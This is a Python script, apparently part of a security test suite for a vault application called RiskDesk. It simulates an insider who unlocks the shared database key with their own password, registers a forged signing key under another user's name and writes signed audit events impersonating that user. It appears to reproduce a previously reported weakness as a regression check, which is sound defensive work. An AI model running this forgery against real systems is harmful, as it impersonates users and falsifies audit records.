"""A colleague's script, run as its own process: with their own password they unlock
the vault's data key, and with SQL on the decrypted database they register a signing key
of their own making in the name of a user who has not yet opened the vault, then write
an audit event in that user's name signed with it. What #10 left open: the roster used
to take such a claim as the user's.

    python claim_forger.py VAULT ATTACKER PASSWORD VICTIM

Prints, as JSON, the forged public key (hex), the claim's record sequence and the two
forged events' sequences."""

from __future__ import annotations

import json
import sys
from datetime import datetime
from pathlib import Path

from riskdesk.store.audit_log import signed_link
from riskdesk.store.cipher_connection import open_cipher_connection
from riskdesk.store.key_slots import open_slot, read_key_file, sidecar_path
from riskdesk.store.role_assignments import record_hash
from riskdesk.store.signing import Purpose, Signer, encode, new_seed
from riskdesk.store.tables import AuditEventRow, RoleAssignmentRow

AT = datetime(2026, 11, 30, 12, 0)


def forge(vault: Path, attacker: str, password: str, victim: str) -> dict[str, object]:
    key_file = read_key_file(sidecar_path(vault))
    vault_id = key_file.vault_id
    opened = open_slot(
        key_file.slot_for(attacker), vault_id=vault_id, username=attacker, password=password
    )
    impostor = Signer(new_seed(), username=victim)
    connection = open_cipher_connection(vault, opened.data_key)
    try:
        connection.execute("BEGIN IMMEDIATE")
        role_sequence, role_previous = connection.execute(
            "SELECT sequence, hash FROM role_assignments ORDER BY sequence DESC LIMIT 1"
        ).fetchone()
        event_sequence, event_previous = connection.execute(
            "SELECT sequence, hash FROM audit_events ORDER BY sequence DESC LIMIT 1"
        ).fetchone()
        claim = RoleAssignmentRow(
            sequence=role_sequence + 1,
            kind="claim",
            username=victim,
            role=None,
            active=None,
            public_key=encode(impostor.public_key),
            issuer=victim,
            audit_sequence=event_sequence + 1,
            issued_at=AT,
            prev_hash=role_previous,
        )
        claim.hash = record_hash(claim, vault_id)
        connection.execute(
            "INSERT INTO role_assignments (sequence, kind, username, role, active, "
            "public_key, issuer, audit_sequence, issued_at, prev_hash, hash, signature) "
            "VALUES (?, 'claim', ?, NULL, NULL, ?, ?, ?, ?, ?, ?, ?)",
            (
                claim.sequence,
                victim,
                claim.public_key,
                victim,
                claim.audit_sequence,
                AT.isoformat(sep=" ", timespec="microseconds"),
                role_previous,
                claim.hash,
                impostor.sign(Purpose.ROLE_RECORD, vault_id, claim.hash.encode("ascii")),
            ),
        )
        # The claim's own event, as RiskDesk writes one, then a read in the victim's name.
        previous = event_previous
        own_event = {"use_case": "user.register_key", "role_records": [claim.sequence]}
        for sequence, details in (
            (event_sequence + 1, own_event),
            (event_sequence + 2, {"use_case": "person.view", "person_id": 1}),
        ):
            event = AuditEventRow(
                sequence=sequence,
                at=AT,
                username=victim,
                action="read",
                entity="person",
                entity_id=1,
                details_json=json.dumps(details, separators=(",", ":")),
                prev_hash=previous,
            )
            event.hash = signed_link(event)
            connection.execute(
                "INSERT INTO audit_events (sequence, at, username, action, entity, entity_id, "
                "details_json, prev_hash, hash, signature) VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?)",
                (
                    sequence,
                    AT.isoformat(sep=" ", timespec="microseconds"),
                    victim,
                    event.action,
                    event.entity,
                    event.entity_id,
                    event.details_json,
                    previous,
                    event.hash,
                    impostor.sign(Purpose.AUDIT_EVENT, vault_id, event.hash.encode("ascii")),
                ),
            )
            previous = event.hash
        connection.execute(
            "UPDATE vault_settings SET value = ? WHERE name = 'audit_head'",
            (f"{event_sequence + 2}:{previous}",),
        )
        connection.execute("COMMIT")
    finally:
        connection.close()
        opened.wipe()
    return {
        "key": impostor.public_key.hex(),
        "claim": claim.sequence,
        "events": [event_sequence + 1, event_sequence + 2],
    }


if __name__ == "__main__":
    vault_arg, attacker_arg, password_arg, victim_arg = sys.argv[1:5]
    print(json.dumps(forge(Path(vault_arg), attacker_arg, password_arg, victim_arg)))
